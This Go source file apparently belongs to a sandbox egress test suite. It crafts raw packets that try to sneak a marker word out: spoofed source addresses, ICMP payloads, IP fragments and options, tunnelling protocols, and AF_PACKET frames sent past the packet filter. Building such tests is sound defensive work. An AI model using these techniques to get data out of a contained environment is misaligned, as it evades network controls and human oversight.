package attack

import (
	"bytes"
	"encoding/binary"
	"net"
	"net/netip"
	"strings"

	"golang.org/x/sys/unix"
)

func containsWord(e Event, word string) bool { return bytes.Contains(e.Raw, []byte(word)) }

// packetAttacks make packets by hand, or speak protocols beside TCP and UDP.
func packetAttacks() []Attack {
	const family = "protocols and packets"
	one := func(id, tries string, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Do: do}
	}
	raw := func(id, tries string, do func(*Agent) error) Attack {
		a := one(id, tries, do)
		a.Needs = "NET_RAW"
		return a
	}
	// A protocol by its number, from a raw socket.
	ip4 := func(id, tries string, proto int) Attack {
		return raw(id, tries, func(a *Agent) error {
			return a.socketIn(unix.AF_INET, unix.SOCK_RAW, proto, &unix.SockaddrInet4{Addr: a.v4.As4()}, []byte(a.word+strings.Repeat(" ", 32)), nil)
		})
	}
	return []Attack{
		one("ping4", "an echo request with data, from a socket that needs no right", func(a *Agent) error {
			return a.socketIn(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP, &unix.SockaddrInet4{Addr: a.v4.As4()},
				append([]byte{8, 0, 0, 0, 0, 0, 0, 1}, a.word...), nil)
		}),
		one("ping6", "an IPv6 echo request with data, from a socket that needs no right", func(a *Agent) error {
			return a.socketIn(unix.AF_INET6, unix.SOCK_DGRAM, unix.IPPROTO_ICMPV6, &unix.SockaddrInet6{Addr: a.v6.As16()},
				append([]byte{128, 0, 0, 0, 0, 0, 0, 1}, a.word...), nil)
		}),
		one("ping-allowed-host", "an echo request with data to an allowed host", func(a *Agent) error {
			return all(learn("ok.test"),
				a.socketIn(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP, &unix.SockaddrInet4{Addr: netip.MustParseAddr(okAddr).As4()},
					append([]byte{8, 0, 0, 0, 0, 0, 0, 1}, a.word...), nil))
		}).leak(func(e Event) bool { return e.Proto == 1 && to(okAddr)(e) }),
		one("ping-upstream", "an echo request with data to the machine's resolver", func(a *Agent) error {
			return a.socketIn(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP, &unix.SockaddrInet4{Addr: netip.MustParseAddr(upstreamAddr).As4()},
				append([]byte{8, 0, 0, 0, 0, 0, 0, 1}, a.word...), nil)
		}).leak(func(e Event) bool { return e.Proto == 1 && to(upstreamAddr)(e) }),
		ip4("icmp-raw", "an echo request from a raw socket", unix.IPPROTO_ICMP),
		raw("icmp-timestamp", "a timestamp request with data", func(a *Agent) error {
			return a.socketIn(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, &unix.SockaddrInet4{Addr: a.v4.As4()},
				append([]byte{13, 0, 0, 0, 0, 0, 0, 1}, a.word...), nil)
		}),
		raw("icmp-error", "an ICMP error about a connection, with data in it", func(a *Agent) error {
			inner := ipv4(unix.IPPROTO_UDP, a.v4.String(), "192.0.2.2", udpHeader(443, 40000, []byte(a.word)), nil)
			return a.socketIn(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, &unix.SockaddrInet4{Addr: a.v4.As4()},
				append([]byte{3, 3, 0, 0, 0, 0, 0, 0}, inner...), nil)
		}),
		raw("icmp6-raw", "an IPv6 echo request from a raw socket", func(a *Agent) error {
			return a.socketIn(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6, &unix.SockaddrInet6{Addr: a.v6.As16()},
				append([]byte{128, 0, 0, 0, 0, 0, 0, 1}, a.word...), nil)
		}),
		raw("raw-udp", "a UDP packet with a header of one's own", func(a *Agent) error {
			return rawIP(ipv4(unix.IPPROTO_UDP, "192.0.2.2", a.v4.String(), udpHeader(40000, 443, []byte(a.word)), nil))
		}),
		raw("raw-spoofed-source", "a packet with somebody else's source address", func(a *Agent) error {
			return rawIP(ipv4(unix.IPPROTO_UDP, "192.0.2.99", a.v4.String(), udpHeader(40000, 443, []byte(a.word)), nil))
		}),
		raw("raw-spoofed-loopback", "a packet whose source is 127.0.0.1", func(a *Agent) error {
			return rawIP(ipv4(unix.IPPROTO_UDP, "127.0.0.1", a.v4.String(), udpHeader(53, 53, []byte(a.word)), nil))
		}),
		raw("raw-tcp-ack", "a TCP packet of no connection", func(a *Agent) error {
			return rawIP(ipv4(unix.IPPROTO_TCP, "192.0.2.2", a.v4.String(), tcpHeader(40000, 443, 0x10, []byte(a.word)), nil))
		}),
		raw("raw-tcp-syn-data", "a TCP opening with data", func(a *Agent) error {
			return rawIP(ipv4(unix.IPPROTO_TCP, "192.0.2.2", a.v4.String(), tcpHeader(40000, 443, 0x02, []byte(a.word)), nil))
		}),
		raw("raw-tcp-reset", "a TCP reset with data", func(a *Agent) error {
			return rawIP(ipv4(unix.IPPROTO_TCP, "192.0.2.2", a.v4.String(), tcpHeader(40000, 443, 0x04, []byte(a.word)), nil))
		}),
		raw("raw-tiny-fragment", "a fragment too small for the port to be in it", func(a *Agent) error {
			p := ipv4(unix.IPPROTO_UDP, "192.0.2.2", a.v4.String(), udpHeader(40000, 443, []byte(a.word))[:8], nil)
			p[6] |= 0x20 // more fragments
			return rawIP(p)
		}),
		raw("raw-later-fragment", "a later fragment without a first", func(a *Agent) error {
			p := ipv4(unix.IPPROTO_UDP, "192.0.2.2", a.v4.String(), []byte(a.word+strings.Repeat(" ", 32)), nil)
			p[7] = 100
			return rawIP(p)
		}),
		raw("raw-options", "an IP packet with options that carry data", func(a *Agent) error {
			return rawIP(ipv4(unix.IPPROTO_UDP, "192.0.2.2", a.v4.String(), udpHeader(40000, 443, []byte(a.word)),
				[]byte{0x86, 8, 1, 2, 3, 4, 5, 6}))
		}),
		raw("packet-socket", "a whole packet past the packet filter (AF_PACKET)", func(a *Agent) error {
			return frame(unix.ETH_P_IP, ipv4(unix.IPPROTO_UDP, "192.0.2.2", a.v4.String(), udpHeader(40000, 443, []byte(a.word)), nil))
		}),
		raw("packet-socket-6", "a whole IPv6 packet past the packet filter", func(a *Agent) error {
			return frame(unix.ETH_P_IPV6, ipv6(unix.IPPROTO_UDP, "2001:db8::2", a.v6.String(), udpHeader(40000, 443, []byte(a.word))))
		}),
		ip4("sctp", "SCTP", 132),
		ip4("dccp", "DCCP", 33),
		ip4("udplite", "UDP-Lite", 136),
		ip4("gre", "a GRE tunnel", 47),
		ip4("ipip", "IPv4 inside IPv4", 4),
		ip4("sit", "IPv6 inside IPv4", 41),
		ip4("esp", "IPsec", 50),
		ip4("l2tp", "L2TP over IP", 115),
		ip4("ospf", "a routing protocol", 89),
		ip4("unknown-protocol", "a protocol number without a protocol", 253),
		raw("ip6-unknown-protocol", "such a number over IPv6", func(a *Agent) error {
			return a.socketIn(unix.AF_INET6, unix.SOCK_RAW, 253, &unix.SockaddrInet6{Addr: a.v6.As16()}, []byte(a.word), nil)
		}),
		raw("ip6-destination-options", "IPv6 destination options that carry data", func(a *Agent) error {
			return a.socket(a.evil6(443), unix.SOCK_DGRAM, 0, func(fd int) error {
				return unix.SetsockoptString(fd, unix.IPPROTO_IPV6, unix.IPV6_DSTOPTS, "\x00\x00\x1e\x04leak")
			})
		}),
	}
}

// frame sends a payload in an Ethernet frame to everybody on eth0.
func frame(kind uint16, payload []byte) error {
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	order := binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, kind))
	return unix.Sendto(fd, payload, 0,
		&unix.SockaddrLinklayer{Protocol: order, Ifindex: link.Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}})
}

// rawIP sends an IPv4 packet whose header is our own.
func rawIP(packet []byte) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Sendto(fd, packet, 0, &unix.SockaddrInet4{Addr: [4]byte(packet[16:20])})
}

// ipv4 is a packet; the options' length is a multiple of four.
func ipv4(proto uint8, src, dst string, payload, options []byte) []byte {
	s, d := netip.MustParseAddr(src).As4(), netip.MustParseAddr(dst).As4()
	p := []byte{0x45 + byte(len(options)/4), 0, 0, 0, 0x5b, 0xd0, 0, 0, 64, proto, 0, 0}
	p = append(append(append(append(p, s[:]...), d[:]...), options...), payload...)
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	header := 20 + len(options)
	binary.BigEndian.PutUint16(p[10:], checksum(p[:header]))
	return p
}

func ipv6(proto uint8, src, dst string, payload []byte) []byte {
	s, d := netip.MustParseAddr(src).As16(), netip.MustParseAddr(dst).As16()
	p := []byte{0x60, 0, 0, 0, 0, 0, proto, 64}
	binary.BigEndian.PutUint16(p[4:], uint16(len(payload)))
	return append(append(append(p, s[:]...), d[:]...), payload...)
}

// udpHeader leaves the checksum out, which IPv4 allows.
func udpHeader(src, dst uint16, payload []byte) []byte {
	p := binary.BigEndian.AppendUint16(nil, src)
	p = binary.BigEndian.AppendUint16(p, dst)
	p = binary.BigEndian.AppendUint16(p, uint16(8+len(payload)))
	return append(append(p, 0, 0), payload...)
}

func tcpHeader(src, dst uint16, flags byte, payload []byte) []byte {
	p := binary.BigEndian.AppendUint16(nil, src)
	p = binary.BigEndian.AppendUint16(p, dst)
	p = append(p, 1, 2, 3, 4, 5, 6, 7, 8, 0x50, flags, 0xff, 0xff, 0, 0, 0, 0)
	return append(p, payload...)
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
